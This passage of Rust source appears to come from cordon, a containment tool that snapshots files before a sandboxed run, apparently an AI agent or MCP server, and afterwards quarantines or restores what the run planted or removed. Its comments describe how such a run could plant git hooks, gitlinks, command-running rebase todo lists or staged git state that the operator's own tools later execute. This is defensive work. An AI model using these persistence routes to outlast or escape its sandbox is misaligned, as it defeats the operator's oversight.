            // As it was before the run (content, mode and owner as the run kept them): cordon's
            // own restore of a scan killed before its marker went, or a rewrite to the same
            // bytes. Nothing to move aside; it would only blame the run for the operator's file.
            if now.earlier().is_some_and(|e| kept.earlier(path) == Some(e)) {
                continue;
            }
            out.push(Finding {
                path: path.clone(),
                what: now.what,
                change: Change::Changed,
                why: now.why.to_string(),
                handling: Handling::Reported(String::new()),
            });
        }
        for f in &mut out {
            f.handling = quarantine(f, kept.earlier(&f.path), journal);
        }
        // What the run removed: each path its "before" snapshot saw (as the run kept it) that
        // is gone now, written back where its content was kept, as the run's own scan does
        // ([`Snapshot::removed_since`], [`recreate`]). Without it, a run killed after it
        // removed the operator's `pre-commit` or cordon's own hook went unreported.
        let before = kept.as_before(&self.roots);
        let mut removed = self.removed_since(&before);
        for f in &mut removed {
            f.handling = recreate(&f.path, &before);
        }
        out.extend(removed);
        // Git's state, compared with what the run kept of it before it began.
        match &kept.git {
            Some(git) => {
                let found = self.git_state_findings(git, &out);
                out.extend(found);
            }
            None => {
                // Without the kept state, anything of git's written since the run began (by
                // ctime, which a run cannot set back) is reported as not checked.
                for (git_dir, now) in &self.git {
                    let what = match (
                        now.index_changed_since(since),
                        now.refs_changed_since(since),
                    ) {
                        (false, false) => continue,
                        (true, false) => "index",
                        (false, true) => "refs or reflogs",
                        (true, true) => "index, refs or reflogs",
                    };
                    out.push(Finding {
                        path: git_dir.clone(),
                        what: What::GitState,
                        change: Change::Changed,
                        why: format!("the dead run changed this repository's {what}, and cordon could not check what it put there: its earlier git state was not kept (larger than {} KiB, or kept by an older cordon)", KEEP_GIT >> 10),
                        handling: Handling::Reported(
                            "check `git diff --cached`, `git log --all`, `git reflog` and `git stash list` before any `git checkout`, `git reset --hard`, `git merge` or `git stash pop`".into(),
                        ),
                    });
                }
            }
        }
        out
    }

    /// The refs, reflogs and their directories this snapshot read (the rest were known
    /// unchanged from an earlier snapshot).
    pub fn git_read(&self) -> usize {
        self.git.values().map(git_state::GitState::fresh).sum()
    }

    /// Forgets the contents this snapshot read: nothing is put back from it (the run's
    /// changes are moved aside only). For a snapshot taken while another run over roots that
    /// meet these was going: what it read may be that run's plant, which its own scan moves
    /// aside and this one's would then have written back over the operator's restored file.
    pub fn forget_contents(&mut self) {
        // A flag, not the contents themselves: a snapshot is compared with the next one by
        // what it holds, so emptied contents would make every watched file look changed.
        self.no_restore = true;
    }

    /// Puts back what `base` kept instead of this snapshot's contents: `base` is what the
    /// first of the runs over these roots still going saw before its command began (this
    /// snapshot, taken while they went, may hold their plants). Still compared with this
    /// snapshot (what changed during this run is this run's finding); but what is as `base`
    /// had it is left alone (another run's scan put it back), what `base` did not hold is
    /// not written back when removed (another run's plant, which its scan moved aside), and
    /// a changed or removed file gets `base`'s content.
    pub fn restore_from(&mut self, base: Kept) {
        self.base = Some(Box::new(base));
    }

    /// What this snapshot saw ([`Kept`]), to be kept where no run reaches while the run goes
    /// (beside its after-run marker): every watched path, with its kind, what and why, mode
    /// and owner — so that a dead run's scan sees what the run removed — and the content of
    /// the regular files and links, so that it can put them back. At most [`KEEP_TOTAL`]
    /// bytes in all, the paths first, the contents with the room left; how many paths did not
    /// fit, and how many files' contents (larger than [`MAX_CONTENT`], or beyond the total),
    /// is said in it.
    pub fn kept(&self) -> Vec<u8> {
        use std::os::unix::ffi::OsStrExt;
        let word = |b: &mut Vec<u8>, n: usize| b.extend_from_slice(&(n as u32).to_le_bytes());
        // The reasons, each once (a few dozen strings; the paths name them by number).
        let mut whys: Vec<&str> = Vec::new();
        let mut listed = Vec::new();
        let (mut size, mut unlisted) = (4, 0u32);
        for (path, seen) in &self.seen {
            let why = whys.iter().position(|w| *w == seen.why);
            let cost = 36 + path.as_os_str().len() + why.map_or(4 + seen.why.len(), |_| 0);
            if size + cost > KEEP_TOTAL {
                unlisted += 1;
                continue;
            }
            size += cost;
            let why = why.unwrap_or_else(|| {
                whys.push(&seen.why);
                whys.len() - 1
            });
            listed.push((path, seen, why));
        }
        let mut body = Vec::new();
        word(&mut body, whys.len());
        for w in &whys {
            word(&mut body, w.len());
            body.extend_from_slice(w.as_bytes());
        }
        let mut left_out: u32 = 0;
        for (path, seen, why) in listed {
            let p = path.as_os_str().as_bytes();
            let content = seen
                .content
                .as_ref()
                .filter(|c| seen.id.0 != DIR && size + c.len() <= KEEP_TOTAL);
            if seen.id.0 == FILE && content.is_none() {
                left_out += 1;
            }
            word(&mut body, p.len());
            body.extend_from_slice(p);
            word(&mut body, seen.id.0 as usize);
            let what = What::ALL.iter().position(|w| *w == seen.what).unwrap_or(0);
            word(&mut body, what);
            word(&mut body, why);
            word(&mut body, seen.mode as usize);
            word(&mut body, seen.owner.0 as usize);
            word(&mut body, seen.owner.1 as usize);
            match content {
                Some(c) => {
                    size += c.len();
                    word(&mut body, c.len());
                    body.extend_from_slice(c);
                }
                None => word(&mut body, NO_CONTENT),
            }
        }
        let mut out = KEEP_HEAD.to_vec();
        word(&mut out, body.len());
        word(&mut out, left_out as usize);
        word(&mut out, unlisted as usize);
        out.extend_from_slice(&body);
        // Then the git directories' states (refs, reflogs, the index's surface entries): the
        // dead-run scan compares git's state with them as the run's own scan would have.
        // Left out past KEEP_GIT (then that scan says it could not check).
        let git: String = self.git.iter().map(|(d, s)| s.kept(d)).collect();
        if git.len() <= KEEP_GIT {
            word(&mut out, git.len());
            out.extend_from_slice(git.as_bytes());
        }
        out
    }

    /// What appeared or changed since `before`, each quarantined where that is safe (not
    /// journaled: the tests' short form).
    #[cfg(test)]
    pub fn findings_since(&self, before: &Snapshot) -> Vec<Finding> {
        self.findings_journaled(before, None)
    }

    /// [`Snapshot::findings_since`], each move journaled first in `journal` (when there is
    /// one), so that a cordon killed in the middle of a move leaves it to the next run.
    pub fn findings_journaled(&self, before: &Snapshot, journal: Option<&Journal>) -> Vec<Finding> {
        let mut out: Vec<Finding> = Vec::new();
        for (path, now) in &self.seen {
            let change = match before.seen.get(path) {
                None => Change::Appeared,
                // Another name with what was there (content, mode, owner; a directory where
                // one was): a write-back of cordon's own, another run's scan putting back
                // what that run changed. Nothing the operator's tools would run differently.
                Some(was) if as_it_was(path, was, now) => continue,
                Some(was) if was.id != now.id || was.content != now.content => {
                    // A directory keeps its identity while git works in it; a different
                    // inode or type is a replacement.
                    Change::Changed
                }
                Some(_) => continue,
            };
            // A todo list is git's working state; it matters only when it runs commands.
            if now.what == What::TodoList && !runs_commands(now) {
                continue;
            }
            // What an earlier check of this process moved aside or restored, unchanged since.
            if is_own(path, now) {
                continue;
            }
            // As it was before the first of the runs going when this one began: another run's
            // scan put it back (its plant moved aside, what it removed written back).
            if let Some(was) = before.base.as_ref().and_then(|b| b.seen.get(path)) {
                if as_it_was(path, was, now) {
                    continue;
                }
            }
            // A placeholder another run over the same root still has a cover mounted on (see
            // `crate::protect::Placeholders`; this run's own are gone by now): moving it would
            // detach that cover, and it carries nothing to run. Only a new one: a file the run
            // emptied gets its earlier content back.
            if change == Change::Appeared && crate::protect::is_placeholder(path) {
                continue;
            }
            // Under a directory that appeared itself, only that directory is reported.
            if out
                .iter()
                .any(|f| f.change == Change::Appeared && path.starts_with(&f.path))
            {
                continue;
            }
            out.push(Finding {
                path: path.clone(),
                what: now.what,
                change,
                why: now.why.to_string(),
                handling: Handling::Reported(String::new()),
            });
        }
        out.extend(self.removed_since(before));
        for (index, links) in &self.gitlinks {
            let old = before.gitlinks.get(index);
            let worktree = index
                .parent()
                .and_then(Path::parent)
                .unwrap_or(Path::new("/"));
            for link in links {
                if old.is_some_and(|o| o.contains(link)) {
                    continue;
                }
                // The repository the gitlink makes `git status` enter, when the walk did not
                // see it before the run (new, or beyond the walk's limit).
                let target = worktree.join(OsString::from_vec(link.clone())).join(".git");
                if std::fs::symlink_metadata(&target).is_ok()
                    && !before.seen.contains_key(&target)
                    && !out.iter().any(|f| target.starts_with(&f.path))
                {
                    out.push(Finding {
                        path: target,
                        what: What::GitDir,
                        change: Change::Appeared,
                        why: "the repository a new gitlink points at: git status runs its config"
                            .into(),
                        handling: Handling::Reported(String::new()),
                    });
                }
                out.push(Finding {
                    path: worktree.join(OsString::from_vec(link.clone())),
                    what: What::Gitlink,
                    change: Change::Appeared,
                    why: format!(
                        "a gitlink added to {}: `git status` recurses into it and runs the repository found there",
                        index.display()
                    ),
                    handling: Handling::Reported(format!(
                        "cordon does not rewrite the index; remove it with `git rm --cached {}` after checking it",
                        String::from_utf8_lossy(link)
                    )),
                });
            }
        }
        out.extend(self.git_state_findings(&before.git, &out));
        // Removed since this run began, but not there before the first of the runs going
        // then: that run's plant, which its own scan moved aside. Nothing to write back.
        if let Some(b) = &before.base {
            out.retain(|f| {
                f.change != Change::Removed || b.unlisted > 0 || b.seen.contains_key(&f.path)
            });
        }
        let base = before.base.as_ref().map(|b| b.as_before(&before.roots));
        let restore_from = base.as_ref().unwrap_or(before);
        for f in &mut out {
            if matches!(f.what, What::Gitlink | What::GitState) {
                continue;
            }
            let earlier = match f.change {
                Change::Changed if restore_from.no_restore => None,
                Change::Changed => restore_from.seen.get(&f.path).and_then(Seen::earlier),
                Change::Appeared => None,
                Change::Removed => {
                    f.handling = recreate(&f.path, restore_from);
                    continue;
                }
            };
            f.handling = quarantine(f, earlier, journal);
        }
        out
    }
}

impl Snapshot {
    /// The surface files the run put into a repository's index, HEAD's commit or
    /// `refs/stash` (see `git_state`), reported, never undone: cordon does not rewrite git's
    /// state; the operator is told what to look at. A repository that appeared during the run
    /// is reported as such by the walk.
    ///
    /// A path whose worktree file already is what git holds (the operator's checkout would
    /// write the same) is left out, unless the scan found that file planted itself (`found`:
    /// it is about to be moved aside, and the checkout would write the plant back).
    fn git_state_findings(
        &self,
        before: &BTreeMap<PathBuf, git_state::GitState>,
        found: &[Finding],
    ) -> Vec<Finding> {
        let mut out = Vec::new();
        // One deadline for every repository's comparison: a run that makes many cannot
        // multiply the time the operator waits.
        let bounds = git_state::Bounds::now();
        for (git_dir, now) in &self.git {
            let Some(was) = before.get(git_dir) else {
                continue;
            };
            // Where the operator's git writes, as it was before the run.
            let worktree = was.worktree();
            let (in_git, unchecked) = now.changes_since(git_dir, was, bounds);
            for (rel, places) in in_git {
                let full = worktree.join(std::ffi::OsStr::from_bytes(&rel));
                let planted = found.iter().any(|f| full.starts_with(&f.path));
                if !planted
                    && places
                        .iter()
                        .all(|(_, e)| git_state::in_worktree(&full, e, now.hash()))
                {
                    continue;
                }
                // Each place that holds it (every ref and reflog: the operator undoes each),
                // named up to a bound.
                let mut places: Vec<&str> = places.iter().map(|(p, _)| p.as_str()).collect();
                places.sort_unstable();
                places.dedup();
                let more = places.len().saturating_sub(MAX_PLACES);
                places.truncate(MAX_PLACES);
                let mut places = places.join(", ");
                if more > 0 {
                    places.push_str(&format!(" and {more} more"));
                }
                let rel_s = String::from_utf8_lossy(&rel).into_owned();
                let why = cordon_policy::surface::classify(
                    Path::new(std::ffi::OsStr::from_bytes(&rel)),
                    &|_| false,
                )
                .map_or("", |h| h.why);
                out.push(Finding {
                    path: full,
                    what: What::GitState,
                    change: Change::Appeared,
                    why: format!(
                        "put by the run into {} of {}: the operator's git writes it out when it checks out, resets to, merges or applies what holds it (`git checkout .`, `git reset --hard`, `git stash pop`, `git checkout BRANCH`, `git merge`, `git reset --hard ORIG_HEAD`, `git sparse-checkout disable`, `git submodule update`, `git clone` of a bare repository), for the next tool to run ({why})",
                        places,
                        git_dir.display()
                    ),
                    handling: Handling::Reported(format!(
                        "cordon does not rewrite git's state; check `git diff --cached -- {rel_s}`, `git log --all -p -- {rel_s}`, `git reflog`, `git stash list -p`, and undo what you did not mean (`git rm --cached {rel_s}`, `git reset HEAD~`, `git branch -D`, `git update-ref -d REF`, `git stash drop`, `git reflog expire --expire-unreachable=now --all`)"
                    )),
                });
            }
            for why in unchecked {
                out.push(Finding {
                    path: git_dir.clone(),
                    what: What::GitState,
                    change: Change::Changed,
                    why: format!(
                        "the run changed this repository's index, refs or reflogs, and cordon could not check what it put there ({why})"
                    ),
                    handling: Handling::Reported(
                        "check `git diff --cached`, `git log --all`, `git reflog` and `git stash list` before any `git checkout`, `git reset --hard`, `git merge` or `git stash pop`".into(),
                    ),
                });
            }
        }
        out
    }

    /// What `before` saw that is gone now: each topmost such path, only where it really is
    /// gone (not merely unseen by a walk that stopped early or could not list a directory).
    /// A todo list is git's working state (a finished rebase removes it), and a directory
    /// cordon cannot list is nothing it could restore.
    fn removed_since(&self, before: &Snapshot) -> Vec<Finding> {
        let mut out: Vec<Finding> = Vec::new();
        for (path, was) in &before.seen {
            if self.seen.contains_key(path)
                || matches!(was.what, What::TodoList | What::Unlistable)
                // A placeholder (a run's, removed by the last run out): cordon's own.
                || (was.id.0 == FILE
                    && crate::protect::was_placeholder(path, was.mode, was.content.as_deref()))
                || out.iter().any(|f| path.starts_with(&f.path))
                || !std::fs::symlink_metadata(path)
                    .is_err_and(|e| e.kind() == std::io::ErrorKind::NotFound)
            {
                continue;
            }
            out.push(Finding {
                path: path.clone(),
                what: was.what,
                change: Change::Removed,
                why: was.why.to_string(),
                handling: Handling::Reported(String::new()),
            });
        }
        out
    }
}

/// Writes back `path`, which the run removed, as `before` saw it: a regular file with its
/// content, mode and owner (staged beside it and renamed in, never over a name the run or the
/// operator has filled since, never through a link); a directory made again with what
/// `before` knew below it. What cannot be written back is said: a link (its target was not
/// kept), a file too large to have been kept, a git directory (a repository is more than its
/// configuration: cordon does not rebuild one), a directory that is gone too.
fn recreate(path: &Path, before: &Snapshot) -> Handling {
    let Some(was) = before.seen.get(path) else {
        return Handling::Reported("nothing was known of it".into());
    };
    if before.no_restore {
        // What `before` read may be another run's plant, which that run's own scan moved
        // aside: writing it back here would put the plant in place again.
        return Handling::Reported(
            "another run over these roots was going when this one started, so what it saw may be that run's: nothing is written back; restore it from a backup if it was yours".into(),
        );
    }
    if matches!(was.what, What::GitDir | What::BareRepository) && was.id.0 == DIR {
        return Handling::Reported(
            "a git directory: cordon does not rebuild a repository; restore it from a backup or a clone".into(),
        );
    }
    let (Some(parent), Some(name)) = (path.parent(), path.file_name()) else {
        return Handling::Reported("no parent directory".into());
    };
    let dir = match cordon_fs::safe::Dir::open_absolute(parent) {
        Ok(d) => d,
        Err(e) if e.is_not_found() => match surface_dirs_again(parent, &before.roots) {
            Some(d) => d,
            None => return Handling::Reported(format!("its directory is gone too ({e})")),
        },
        Err(e) => return Handling::Reported(format!("its directory cannot be opened ({e})")),
    };
    match recreate_in(&dir, Path::new(name), path, was, before) {
        Ok(()) => Handling::Recreated,
        Err(why) => Handling::Reported(why),
    }
}

/// `dir`, gone with the file the run removed, made again where every missing directory on the
/// way is itself on the surface (`.claude` of `.claude/settings.json`, `.git/hooks`): what a
/// tool reads is there again, and nothing is made in a tree the run removed for its own
/// reasons (`node_modules/pkg` of a package's `.npmrc`). Each made with the mode and owner of
/// the directory it is made in.
fn surface_dirs_again(dir: &Path, roots: &[PathBuf]) -> Option<cordon_fs::safe::Dir> {
    let root = roots.iter().find(|r| dir.starts_with(r))?;
    let mut have = dir;
    while std::fs::symlink_metadata(have).is_err() {
        have = have.parent().filter(|p| p.starts_with(root))?;
    }
    let missing = dir.strip_prefix(have).ok()?;
    let below_root = have.strip_prefix(root).ok()?;
    let is_git_dir = |p: &Path| cordon_policy::surface::looks_like_git_dir(&root.join(p));
    let mut on_the_way = below_root.to_path_buf();
    for part in missing.components() {
        on_the_way.push(part);
        cordon_policy::surface::classify(&on_the_way, &is_git_dir)?;
    }
    let base = cordon_fs::safe::Dir::open_absolute(have).ok()?;
    let st = base.stat().ok()?;
    let made = base.create_dirs(missing, st.st_mode & 0o777).ok()?;
    if rustix::process::geteuid().is_root() {
        let mut cur = base;
        for part in missing.components() {
            cur = cur.dir(Path::new(part.as_os_str())).ok()?;
            let _ = rustix::fs::fchown(
                &cur,
                Some(rustix::process::Uid::from_raw(st.st_uid)),
                Some(rustix::process::Gid::from_raw(st.st_gid)),
            );
        }
    }
    Some(made)
}

/// [`recreate`]'s work for `name` in `dir` (`path` is `dir`'s path joined with it).
fn recreate_in(
    dir: &cordon_fs::safe::Dir,
    name: &Path,
    path: &Path,
    was: &Seen,
    before: &Snapshot,
) -> Result<(), String> {
    match was.id.0 {
        FILE => {
            let earlier = was.earlier().ok_or_else(|| {
                format!(
                    "its content was not kept (larger than {} KiB)",
                    MAX_CONTENT / 1024
                )
            })?;
            let staging = Journal::staging_name(name.as_os_str());
            journal::stage(dir, Path::new(&staging), &earlier).map_err(|e| e.to_string())?;
            if let Err(e) = dir.rename_noreplace(Path::new(&staging), name) {
                let _ = dir.remove(Path::new(&staging));
                return Err(format!("{e}"));
            }
            remember_restored(path, &earlier.content);
            Ok(())
        }
        DIR => {
            let made = dir.create_dirs(name, 0o700).map_err(|e| e.to_string())?;
            if rustix::process::geteuid().is_root() {
                rustix::fs::fchown(
                    &made,
                    Some(rustix::process::Uid::from_raw(was.owner.0)),
                    Some(rustix::process::Gid::from_raw(was.owner.1)),
                )
                .map_err(|e| e.to_string())?;
            }
            // What was below it, each directly below first (the map is in path order).
            let mut failed = Vec::new();
            for (below, seen) in before.seen.range(path.to_path_buf()..) {
                let Ok(rest) = below.strip_prefix(path) else {
                    break;
                };
                if rest.as_os_str().is_empty() || rest.components().count() != 1 {
                    continue;
                }
                if let Err(why) = recreate_in(&made, rest, below, seen, before) {
                    failed.push(format!("{}: {why}", below.display()));
                }
            }
            rustix::fs::fchmod(&made, rustix::fs::Mode::from_raw_mode(was.mode & 0o1777))
                .map_err(|e| e.to_string())?;
            if failed.is_empty() {
                Ok(())
            } else {
                Err(format!(
                    "the directory is made again, but not all it held: {}",
                    failed.join("; ")
                ))
            }
        }
        _ => Err(match &was.content {
            Some(target) if was.id.0 == 3 => format!(
                "a link (to {}): make it again with `ln -s`",
                String::from_utf8_lossy(target)
            ),
            _ => "not a regular file or directory".into(),
        }),
    }
}

/// The after-run scan of a run that lasts — a wrapped MCP server (`cordon mcp wrap`), which
/// lives as long as its client's session — done while it still runs, after each of its tool
/// calls: what appeared or changed in the writable roots since the last check is moved aside
/// like the end scan does, before the operator's `cd` (direnv) or a host's settings reload
/// could act on it. Bounded cost: directories unchanged since the last check are not listed
/// again (see [`Snapshot::take_with`]); each still gets a `stat`.
#[derive(Debug)]
pub struct Watch {
    roots: Vec<PathBuf>,
    baseline: Snapshot,
    /// The default trust-store places in the roots that did not exist at the start.
    stores: Vec<MissingPlace>,
    /// Where each move is journaled first (see [`Journal`]).
    journal: Option<Journal>,
}

impl Watch {
    /// Watches `roots` (absolute, canonical) from now on.
    pub fn start(roots: &[PathBuf]) -> Watch {
        Watch::start_journaled(roots, None)
    }

    /// [`Watch::start`], each move journaled first in `journal`: a cordon killed in the middle
    /// of one leaves it for the next run over the roots to finish.
    pub fn start_journaled(roots: &[PathBuf], journal: Option<Journal>) -> Watch {
        Watch {
            roots: roots.to_vec(),
            stores: MissingPlace::trust_stores_in(roots),
            baseline: Snapshot::take(roots),
            journal,
        }
    }

    /// What appeared or changed since the start or the last check, each moved aside (a changed
    /// small file gets its earlier content back); and whether the walk stopped at its limit.
    /// What cordon moved aside itself is not found again by the next check; what the run
    /// changes while this check moves files aside is found by the next one.
    pub fn check(&mut self) -> (Vec<Finding>, bool) {
        let _one = scanning();
        let now = Snapshot::take_with(&self.roots, MAX_ENTRIES, Some(&self.baseline));
        let mut findings = now.findings_journaled(&self.baseline, self.journal.as_ref());
        findings.extend(self.stores.iter().filter_map(MissingPlace::check));
        let truncated = now.truncated;
        // The new baseline is the snapshot the findings came from, not one taken after the
        // moves: a second walk would take in whatever the server wrote while this one moved
        // files aside (a plant that then waits for the exit scan). Each finding's place is set
        // to what cordon left there: gone when moved aside, the earlier content (with the
        // restored file's identity) when restored — never the server's version, which a later
        // change would otherwise be "restored" to. Where cordon moved things is told apart by
        // its identity (`OWN`) at the next check.
        let mut now = now;
        for f in &findings {
            match &f.handling {
                Handling::Quarantined(_) => now.seen.retain(|p, _| !p.starts_with(&f.path)),
                Handling::Restored(_) => {
                    let was = self.baseline.seen.get(&f.path).cloned();
                    let id = own().get(&f.path).map(|(id, _)| *id);
                    match (was, id) {
                        (Some(was), Some(id)) => {
                            now.seen.insert(f.path.clone(), Seen { id, ..was });
                        }
                        _ => {
                            now.seen.remove(&f.path);
                        }
                    }
                }
                // What was written back is as it was before, with its new identity: not
                // found again, and a later change of it is restored to this.
                Handling::Recreated => {
                    let below = self.baseline.seen.range(f.path.clone()..);
                    for (p, was) in below.take_while(|(p, _)| p.starts_with(&f.path)) {
                        if let Ok(m) = std::fs::symlink_metadata(p) {
                            let id = identity(&m);
                            now.seen.insert(p.clone(), Seen { id, ..was.clone() });
                        }
                    }
                }
                Handling::Reported(_) | Handling::Unrestored(..) => {}
            }
        }
        self.baseline = now;
        (findings, truncated)
    }
}

/// Held by every scan that moves findings aside in this process — a [`Watch`]'s check (after a
/// wrapped server's tool call, or on its live watch's trigger) and a run's end scan — from its
/// walk to its last move: two at once over the same roots would move the same plant twice
/// (the second reporting a failed rename) or take the other's move for the run's change.
static SCANNING: std::sync::Mutex<()> = std::sync::Mutex::new(());

pub(crate) fn scanning() -> std::sync::MutexGuard<'static, ()> {
    SCANNING.lock().unwrap_or_else(|e| e.into_inner())
}

thread_local! {
    /// While a snapshot is taken on this thread ([`LinksScope`]): every name asked about on
    /// the way to a path's real place, for [`canonical`].
    static LINKS: std::cell::RefCell<Option<cordon_fs::links::Links>> =
        const { std::cell::RefCell::new(None) };
}

/// Where `path` really is, as `std::fs::canonicalize` says (`None`: it does not resolve).
/// While a snapshot is taken, each name on the way is asked about once for the whole snapshot
/// (`cordon_fs::links::Links`): the places it resolves share their first components (the
/// root, the home, `/usr`; each word of a git configuration is tried as a file of the root,
/// each PATH entry and startup file's place resolved), which `canonicalize` (glibc's
/// realpath, one `readlink` per component) asked about again for each. The snapshot is one
/// moment's view either way: a link changed while it is taken may be seen either side.
fn canonical(path: &Path) -> Option<PathBuf> {
    LINKS.with(|l| match l.borrow_mut().as_mut() {
        Some(links) => links.canonical(path),
        None => std::fs::canonicalize(path).ok(),
    })
}

/// [`canonical`]'s names kept for as long as this lives (one snapshot), then dropped: the next
/// snapshot asks again.
struct LinksScope(Option<cordon_fs::links::Links>);

impl LinksScope {
    fn enter() -> LinksScope {
        LinksScope(LINKS.with(|l| l.replace(Some(Default::default()))))
    }
}

impl Drop for LinksScope {
    fn drop(&mut self) {
        let was = self.0.take();
        LINKS.with(|l| *l.borrow_mut() = was);
    }
}

/// `path` with the links on the way to it resolved (its last component as it is), when that
/// lies in one of `roots`; else `path` as it is.
fn real_in(path: &Path, roots: &[PathBuf]) -> PathBuf {
    path.parent()
        .and_then(canonical)
        .filter(|p| roots.iter().any(|r| p.starts_with(r)))
        .zip(path.file_name())
        .map_or_else(|| path.to_path_buf(), |(p, n)| p.join(n))
}

/// Whether `path` is a staging file that a write-back of cordon's (of a file the run removed,
/// or of an earlier content) left when its cordon was killed before the rename
/// (`NAME.cordon-restore-…`, [`Journal::staging_name`]), holding what the run kept of `NAME`
/// or the start of it; removed here when so. The write-back is done again from `kept`; taken
/// for the run's change, it was moved aside with a warning blaming the run (and saying its
/// earlier content was not kept). A file of that name holding anything else is the run's,
/// and handled as such.
fn staging_left(path: &Path, now: &Seen, kept: &Kept) -> bool {
    let (Some(parent), Some(name)) = (path.parent(), path.file_name()) else {
        return false;
    };
    let marker = Journal::STAGING.as_bytes();
    let Some(at) = name
        .as_bytes()
        .windows(marker.len())
        .position(|w| w == marker)
    else {
        return false;
    };
    let base = parent.join(std::ffi::OsStr::from_bytes(&name.as_bytes()[..at]));
    let (Some(was), Some(has)) = (kept.earlier(&base), now.content.as_ref()) else {
        return false;
    };
    if now.id.0 != FILE || !was.content.starts_with(has) {
        return false;
    }
    // The file the snapshot read, still there, removed through its directory (no link on
    // the way followed).
    let Ok(dir) = cordon_fs::safe::Dir::open_absolute(parent) else {
        return false;
    };
    let rel = Path::new(name);
    let same = dir
        .stat_at(rel)
        .ok()
        .flatten()
        .is_some_and(|st| (st.st_dev, st.st_ino) == (now.id.1, now.id.2));
    same && dir.remove(rel).is_ok()
}

/// The scan of a run whose cordon died before its own: everything watched in `roots` that
/// changed at or after `since`, moved aside, a changed file whose earlier content the run
/// `kept` ([`Snapshot::kept`]) put back, a removed one written back; `None` when the walk
/// could not finish.
pub fn scan_changed_since(
    roots: &[PathBuf],
    since: impl Into<Began>,
    kept: &Kept,
    journal: Option<&Journal>,
) -> Option<Vec<Finding>> {
    let now = Snapshot::take(roots);
    (!now.truncated).then(|| now.changed_since(since.into(), kept, journal))
}

/// When a dead run began, as its scan compares it with ctimes ([`scan_changed_since`]).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Began {
    /// Read from the clock (`SystemTime::now`): a ctime the kernel stamped after it may lie
    /// up to [`STAMP_SLACK`] before it.
    Clock(SystemTime),
    /// Stamped by the kernel, the clock ctimes come from, on a file made then (the marker's
    /// birth time): a ctime stamped after it is not earlier.
    Stamp(SystemTime),
}

impl From<SystemTime> for Began {
    fn from(t: SystemTime) -> Began {
        Began::Clock(t)
    }
}

/// How far before a moment a ctime stamped after it may lie: the kernel stamps ctime from its
/// coarse clock, which lags the clock `SystemTime::now` reads by up to a tick (10 ms at the
/// slowest `HZ`), and a filesystem truncates it to its own granularity (10 ms at the coarsest
/// one that keeps fractions).
const STAMP_SLACK: Duration = Duration::from_millis(50);

/// Whether a ctime (seconds, nanoseconds) may have been stamped at or after `since`. A ctime
/// with no fraction is taken for a filesystem that keeps whole seconds (or FAT's two): compared
/// by those, so a change in the same second is never missed. Any other is compared to `since`
/// itself where the kernel stamped it, else to [`STAMP_SLACK`] before it: what the operator
/// changed before a run began is not blamed on it (compared in whole seconds, an edit made in
/// the same second as a killed run's start was moved aside as the run's).
fn stamped_at_or_after((secs, nsec): (i64, i64), since: Began) -> bool {
    let (since, slack) = match since {
        Began::Clock(t) => (t, STAMP_SLACK),
        Began::Stamp(t) => (t, Duration::ZERO),
    };
    let since = since
        .duration_since(SystemTime::UNIX_EPOCH)
        .unwrap_or_default();
    if nsec == 0 {
        return secs >= since.as_secs() as i64 - 1;
    }
    let (Ok(secs), Ok(nsec)) = (u64::try_from(secs), u32::try_from(nsec)) else {
        return secs >= 0; // not a time cordon can read: taken as after
    };
    Duration::new(secs, nsec.min(999_999_999)) + slack >= since
}

/// What a run's "before" snapshot saw ([`Snapshot::kept`]), as the run kept it: what a dead
/// run's scan compares with ([`scan_changed_since`]) — a changed file gets its earlier content
/// back, a removed one is written back.
#[derive(Debug, Clone, Default)]
pub struct Kept {
    seen: BTreeMap<PathBuf, Seen>,
    /// The git directories' states before the run (`None`: not kept, too large or an older
    /// cordon's marker).
    git: Option<BTreeMap<PathBuf, git_state::GitState>>,
    /// Files whose content was not kept (too large): moved aside and not restored.
    pub left_out: u32,
    /// Watched paths not kept at all (past [`KEEP_TOTAL`]): their removal cannot be seen.
    pub unlisted: u32,
}

impl Kept {
    /// `bytes` read back; nothing (the old behaviour: moved aside, not restored) when they are
    /// not whole — a cordon killed in the middle of keeping them — or not what
    /// [`Snapshot::kept`] writes.
    pub fn read(bytes: &[u8]) -> Kept {
        Kept::parse(bytes).unwrap_or_default()
    }

    /// Whether the earlier content of `path` was kept.
    pub fn holds(&self, path: &Path) -> bool {
        self.earlier(path).is_some()
    }

    /// Whether `path` was a regular file whose content was not kept (too large, or past the
    /// total): what a warning about it says, and not of a directory or a link.
    pub fn content_left_out(&self, path: &Path) -> bool {
        self.seen
            .get(path)
            .is_some_and(|s| s.id.0 == FILE && s.content.is_none())
    }

    /// The earlier content (mode, owner) of the file at `path`, where it was kept.
    fn earlier(&self, path: &Path) -> Option<journal::Earlier> {
        self.seen.get(path).and_then(Seen::earlier)
    }

    /// What the run's "before" snapshot saw, as a snapshot of `roots` to compare with.
    fn as_before(&self, roots: &[PathBuf]) -> Snapshot {
        Snapshot {
            seen: self.seen.clone(),
            roots: roots.to_vec(),
            ..Snapshot::default()
        }
    }

    /// Writes each kept file whose name is empty now back (content, mode, owner): after a
    /// scan that moved a run's version aside and could not write the earlier content back
    /// ([`Handling::Unrestored`]). Never over a name (staged beside it, renamed into place
    /// without replacing), never through a link. Each path written back, or why not.
    pub fn write_back_missing(&self) -> Vec<(PathBuf, Result<(), String>)> {
        let mut out = Vec::new();
        let files = self
            .seen
            .iter()
            .filter_map(|(p, s)| Some((p, s.earlier()?)));
        for (path, was) in files {
            let (Some(parent), Some(name)) = (path.parent(), path.file_name()) else {
                continue;
            };
            let Ok(dir) = cordon_fs::safe::Dir::open_absolute(parent) else {
                continue; // its directory is gone: nothing to write into
            };
            if !matches!(dir.stat_at(Path::new(name)), Ok(None)) {
                continue; // filled meanwhile (or cannot be looked at): left as it is
            }
            let staging = Journal::staging_name(name);
            let done = journal::stage(&dir, Path::new(&staging), &was)
                .and_then(|()| {
                    dir.rename_noreplace(Path::new(&staging), Path::new(name))
                        .map_err(std::io::Error::other)
                })
                .map_err(|e| {
                    let _ = dir.remove(Path::new(&staging));
                    e.to_string()
                });
            if done.is_ok() {
                remember_restored(path, &was.content);
            }
            out.push((path.clone(), done));
        }
        out
    }

    /// What a run over `roots` puts back while other runs go whose roots meet these
    /// (`earlier`: each one's roots and what it put back, [`Snapshot::kept`]'s bytes, the
    /// earliest first), its own "before" snapshot having read `own`: the overlap rule, path by
    /// path. A path one of them watched (under its roots) is as the earliest of those kept it
    /// — the state before the first of them began, which its own snapshot may no longer hold
    /// (another run's plant, its removal) — and every other path, and a git directory's state
    /// likewise, as `own` read it. So runs over the same roots take the earliest one's whole,
    /// a run inside another's root takes that one's part of it, and runs that share one root
